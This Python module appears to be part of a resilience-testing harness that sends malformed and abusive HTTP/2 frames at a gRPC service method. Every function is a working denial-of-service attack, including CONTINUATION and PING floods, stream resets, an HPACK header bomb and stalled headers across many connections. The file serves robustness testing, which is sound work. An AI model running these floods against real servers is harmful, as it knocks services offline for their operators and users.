"""Attacks with frames that HTTP/2 has for other purposes."""

import struct

from attacks.attacking import Ground, attack
from attacks.wire import (
    CONTINUATION,
    DATA,
    END_HEADERS,
    FRAME_BYTES,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PADDED,
    PING,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    block,
    frame,
    literal,
)

METHOD = "newstally.v1.TallyService/ListPublications"


def setting(key: int, value: int) -> bytes:
    """Return a SETTINGS frame."""
    return frame(SETTINGS, 0, 0, struct.pack(">HI", key, value))


@attack("frames", burns=True)
def settings_flood(ground: Ground) -> None:
    """Settings that want to be acknowledged."""
    flood = setting(INITIAL_WINDOW_SIZE, 65_535) * 200
    ground.again(lambda connection: connection.send(flood))


@attack("frames", burns=True)
def table_size_flood(ground: Ground) -> None:
    """Change the size of the header table to and fro."""
    flood = (setting(1, 0) + setting(1, 4096)) * 100
    ground.again(lambda connection: connection.send(flood))


@attack("frames", burns=True)
def ping_flood(ground: Ground) -> None:
    """Pings that want to be answered."""
    flood = frame(PING, 0, 0, bytes(8)) * 200
    ground.again(lambda connection: connection.send(flood))


@attack("frames", burns=True)
def window_flood(ground: Ground) -> None:
    """Windows that grow byte by byte."""
    flood = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 300
    ground.again(lambda connection: connection.send(flood))


@attack("frames", burns=True)
def priority_flood(ground: Ground) -> None:
    """Priorities of streams that are not there."""

    def act(connection: Connection) -> None:
        streams = (2 * ground.dice.randrange(1, 1 << 20) + 1 for _ in range(200))
        connection.send(b"".join(frame(PRIORITY, 0, stream, bytes(5)) for stream in streams))

    ground.again(act)


@attack("frames", burns=True)
def reset_idle_streams(ground: Ground) -> None:
    """Reset what was never opened."""
    flood = b"".join(frame(RST_STREAM, 0, 2 * n + 1, bytes(4)) for n in range(200))
    ground.again(lambda connection: connection.send(flood))


@attack("frames", burns=True)
def empty_data(ground: Ground) -> None:
    """A call whose data has no bytes, for ever."""

    def act(connection: Connection) -> None:
        stream = connection.open(METHOD)
        for _ in range(20):
            connection.send(frame(DATA, 0, stream) * 100)

    ground.again(act)


@attack("frames", burns=True)
def padding(ground: Ground) -> None:
    """Data that is padding only."""

    def act(connection: Connection) -> None:
        stream = connection.open(METHOD)
        for _ in range(20):
            connection.send(frame(DATA, PADDED, stream, bytes([255]) + bytes(255)) * 10)

    ground.again(act)


@attack("frames", burns=True)
def continuation_flood(ground: Ground) -> None:
    """Headers that never end."""

    def act(connection: Connection) -> None:
        stream = connection.reserve()
        connection.send(frame(HEADERS, 0, stream, block(METHOD)))
        more = frame(CONTINUATION, 0, stream, literal(b"x", bytes(16_000)))
        for _ in range(100):
            connection.send(more)

    ground.again(act)


@attack("frames")
def continuation_that_stops(ground: Ground) -> None:
    """Headers that stop before their end, on many connections."""
    with ground.connections(200) as made:
        for connection in made:
            connection.send(frame(HEADERS, 0, connection.reserve(), block(METHOD)))
        for _ in ground.rounds(0.2):
            pass


@attack("frames", burns=True)
def frame_too_large(ground: Ground) -> None:
    """A frame over the size that was agreed on."""
    large = frame(DATA, 0, 1, bytes(4 * FRAME_BYTES))
    ground.again(lambda connection: connection.send(large))


@attack("frames", burns=True)
def frames_of_no_kind(ground: Ground) -> None:
    """Frames that nobody knows, and some that only servers send."""

    def act(connection: Connection) -> None:
        kinds = (ground.dice.randrange(10, 256) for _ in range(100))
        connection.send(b"".join(frame(kind, 0, 0, bytes(20)) for kind in kinds))
        if ground.dice.random() < 0.05:
            connection.send(frame(PUSH_PROMISE, END_HEADERS, 1, bytes(4)))

    ground.again(act)


@attack("frames", burns=True)
def goaway_flood(ground: Ground) -> None:
    """Say goodbye again and again, and stay."""
    flood = frame(GOAWAY, 0, 0, bytes(8)) * 100
    ground.again(lambda connection: connection.send(flood))


@attack("frames", burns=True)
def header_bomb(ground: Ground) -> None:
    """One header of 4,000 bytes in the table, then a byte for each time it is meant."""
    first = literal(b"x-bomb", b"b" * 3_900, indexed=True)

    def act(connection: Connection) -> None:
        connection.send(frame(HEADERS, END_HEADERS, connection.reserve(), block(METHOD) + first))
        for _ in range(20):
            bomb = block(METHOD) + b"\xbe" * 10_000
            connection.send(frame(HEADERS, END_HEADERS, connection.reserve(), bomb))

    ground.again(act)


@attack("frames", burns=True)
def header_table_churn(ground: Ground) -> None:
    """Headers that push each other out of the table."""

    def act(connection: Connection) -> None:
        fields = b"".join(
            literal(b"x-%d" % ground.dice.randrange(10**6), b"v" * 40, indexed=True)
            for _ in range(100)
        )
        connection.send(frame(HEADERS, END_HEADERS, connection.reserve(), block(METHOD) + fields))

    ground.again(act)


@attack("frames", burns=True)
def broken_headers(ground: Ground) -> None:
    """Header blocks of random bytes."""

    def act(connection: Connection) -> None:
        junk = ground.dice.randbytes(200)
        connection.send(frame(HEADERS, END_HEADERS, connection.reserve(), junk))

    ground.again(act)
